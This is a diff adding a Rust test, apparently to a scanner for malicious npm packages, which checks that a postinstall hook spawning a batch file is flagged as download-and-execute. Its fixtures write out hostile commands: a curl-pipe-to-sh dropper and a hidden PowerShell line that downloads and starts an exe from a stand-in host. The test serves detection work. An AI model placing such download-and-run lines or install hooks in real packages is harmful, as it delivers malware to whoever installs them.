@@ -698,6 +698,33 @@ mod package {
     const DROPPER: &str = "#!/bin/sh\nset -e\ncurl -fsSL http://payload.invalid/s.sh | sh\n";
 
     #[test]
+    fn a_batch_file_named_beside_the_script_that_starts_it_is_read() {
+        const BAT: &str = "@echo off\r\npowershell -w hidden -c \"iwr http://payload.invalid/a -OutFile %TEMP%\\a.exe\"\r\nstart %TEMP%\\a.exe\r\n";
+        let manifest =
+            r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node lib/post.js"}}"#;
+        for call in [
+            "spawn('cmd.exe', ['/c', path.join(__dirname, 'setup.bat')])",
+            "spawn('cmd.exe', ['/c', __dirname + '/setup.bat'])",
+            "spawn('cmd.exe', ['/c', `${__dirname}/setup.bat`])",
+        ] {
+            let post = format!(
+                "const {{ spawn }} = require('child_process');\nconst path = require('path');\n{call};\n"
+            );
+            let a = npm(&[
+                ("package.json", manifest),
+                ("lib/post.js", &post),
+                ("lib/setup.bat", BAT),
+            ]);
+            assert_eq!(
+                found(&a, "lib/setup.bat", K::DownloadExecute),
+                Some(Context::Install),
+                "{call}: {:?}",
+                a.behaviours
+            );
+        }
+    }
+
+    #[test]
     fn install_hooks_run_scripts_at_install_time() {
         for hook in [
             "bash install.sh",
